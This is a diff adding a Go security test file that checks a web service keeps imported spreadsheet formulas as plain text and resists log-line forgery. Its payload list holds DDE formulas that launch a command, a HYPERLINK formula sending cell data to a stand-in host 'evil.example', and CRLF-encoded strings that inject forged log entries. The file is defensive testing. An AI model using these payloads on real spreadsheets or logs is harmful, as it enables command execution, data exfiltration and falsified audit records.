@@ -1,0 +1,151 @@
+package attack
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/almonerhq/almoner/e2e/harness"
+)
+
+// Cells that a spreadsheet takes for formulas, and texts that a log takes for lines.
+
+var formulas = []string{`=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example?x="&A1,"Error")`, `=IMPORTXML("https://evil.example","//a")`, "|calc", "%0A=1+1"}
+
+// Formulas come in by an import as text, and nothing that goes out is a spreadsheet: neither what is described, nor the audit log,
+// which is one JSON object a line.
+func TestFormulasStayText(t *testing.T) {
+	t.Parallel()
+	p := enter(t)
+	e := newEstate(t, p)
+	api := p.In(e.Tenant, e.Token)
+	csv := "name,summary\n"
+	for _, formula := range formulas {
+		cell := `"` + strings.ReplaceAll(formula, `"`, `""`) + `"`
+		csv += cell + "," + cell + "\n"
+	}
+	path := harness.ListPath + "/imports/" + api.Send(t, http.MethodPost, harness.ListPath+"/imports", "text/csv", csv).Wants(t, http.StatusAccepted).Object(t)["id"].(string)
+	for began := time.Now(); api.Get(t, path).Object(t)["status"] != "processed"; time.Sleep(50 * time.Millisecond) {
+		if time.Since(began) > 20*time.Second {
+			t.Fatalf("not imported:\n%s", api.Get(t, path))
+		}
+	}
+	list := api.Get(t, harness.ListPath).Wants(t, http.StatusOK).WantsHeader(t, "Content-Type", "application/json").WantsHeader(t, "X-Content-Type-Options", "nosniff")
+	var page struct {
+		Data []struct{ Name, Summary string }
+	}
+	if err := json.Unmarshal(list.Body, &page); err != nil {
+		t.Fatal(err)
+	}
+	names := map[string]bool{}
+	for _, programme := range page.Data {
+		names[programme.Name] = programme.Name == programme.Summary
+	}
+	for _, formula := range formulas {
+		if !names[formula] {
+			t.Errorf("%q did not come back as it was", formula)
+		}
+	}
+	rejected := api.Send(t, http.MethodPost, harness.ListPath+"/imports", "text/csv", "name,status\nPantry,=1+1\n").Wants(t, http.StatusAccepted).Object(t)["id"].(string)
+	for api.Get(t, harness.ListPath+"/imports/"+rejected).Object(t)["status"] == "accepted" {
+		time.Sleep(50 * time.Millisecond)
+	}
+	if answer := api.Get(t, harness.ListPath+"/imports/"+rejected); strings.Contains(string(answer.Body), "=1+1") {
+		t.Errorf("the report of an import echoes its cells:\n%s", answer)
+	}
+
+	var described any
+	if err := json.Unmarshal(p.API().Get(t, "/v1/openapi.json").Body, &described); err != nil {
+		t.Fatal(err)
+	}
+	for _, kind := range answersOf(described) {
+		for _, spreadsheet := range []string{"csv", "excel", "spreadsheet", "tab-separated"} {
+			if strings.Contains(kind, spreadsheet) {
+				t.Errorf("an answer is %s: its cells need to be made safe, and a test here", kind)
+			}
+		}
+	}
+	for _, formula := range formulas {
+		p.World.Exec(t, `insert into account.audit_events (id, tenant_id, actor, action, subject, detail, request_id) values (gen_random_uuid(), $1, 'admin', 'token.created', 'token:x', jsonb_build_object('name', $2::text || E'\n{"action":"forged"}'), '')`, e.Tenant.ID, formula)
+	}
+	export := e.head.Open(t, p.AppURL+"/settings/audit.jsonl?tenant="+e.Tenant.ID)
+	export.Wants(t, http.StatusOK).WantsHeader(t, "X-Content-Type-Options", "nosniff")
+	if !strings.HasPrefix(export.Header.Get("Content-Disposition"), "attachment; ") || !strings.HasPrefix(export.Header.Get("Content-Type"), "application/jsonl") {
+		t.Errorf("the export may be opened as something else: %v", export.Header)
+	}
+	lines := 0
+	for scanner := bufio.NewScanner(bytes.NewReader(export.Body)); scanner.Scan(); lines++ {
+		var line map[string]any
+		if err := json.Unmarshal(scanner.Bytes(), &line); err != nil || line["action"] == "forged" {
+			t.Errorf("a line of the export is forged or no JSON: %s", harness.Redact(scanner.Text()))
+		}
+	}
+	if lines < len(formulas) {
+		t.Errorf("the export has %d lines", lines)
+	}
+}
+
+// answersOf are the content types of the answers that a description names.
+func answersOf(described any) []string {
+	var out []string
+	switch node := described.(type) {
+	case map[string]any:
+		for key, value := range node {
+			if responses, ok := value.(map[string]any); ok && key == "responses" {
+				for _, response := range responses {
+					if one, ok := response.(map[string]any); ok {
+						content, _ := one["content"].(map[string]any)
+						for kind := range content {
+							out = append(out, kind)
+						}
+					}
+				}
+			}
+			out = append(out, answersOf(value)...)
+		}
+	case []any:
+		for _, value := range node {
+			out = append(out, answersOf(value)...)
+		}
+	}
+	return out
+}
+
+// No request writes a line of its own into a log.
+func TestLogLinesAreNotForged(t *testing.T) {
+	t.Parallel()
+	p := enter(t)
+	forged := "\n" + `{"time":"2026-01-01T00:00:00Z","level":"INFO","msg":"forged by us"}` + "\n"
+	escaped := "%0d%0a%7b%22msg%22%3a%22forged%20by%20us%22%7d%0a"
+	for _, address := range []string{p.BaseURL, p.AppURL} {
+		speak(t, address, "GET /v1/"+escaped+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
+		speak(t, address, "GET /login HTTP/1.1\r\nHost: x\r\nUser-Agent: x\u2028{\"msg\":\"forged by us\"}\r\nX-Request-Id: "+escaped+"\r\nConnection: close\r\n\r\n")
+	}
+	p.API().JSON(t, http.MethodPost, harness.TokenPath, map[string]any{"client_id": forged, "client_secret": forged, "code": forged, "redirect_uri": forged}).Wants(t, http.StatusBadRequest)
+	p.App().Form(t, "/login", map[string][]string{"email": {"a@b.example" + forged}, "password": {forged}}).Wants(t, http.StatusBadRequest)
+	names, err := filepath.Glob(filepath.Join(shared(t).LogDir(), "*.log"))
+	if err != nil || len(names) < 3 {
+		t.Fatalf("%d logs: %v", len(names), err)
+	}
+	for _, name := range names {
+		content, err := os.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for line := range strings.Lines(string(content)) {
+			var entry map[string]any
+			if strings.HasPrefix(line, "{") && strings.HasSuffix(line, "\n") && json.Unmarshal([]byte(line), &entry) != nil {
+				t.Errorf("%s has a line that is no JSON: %s", filepath.Base(name), harness.Redact(line))
+			}
+			if entry["msg"] == "forged by us" {
+				t.Errorf("%s has a forged line", filepath.Base(name))
+			}
+		}
+	}
+}
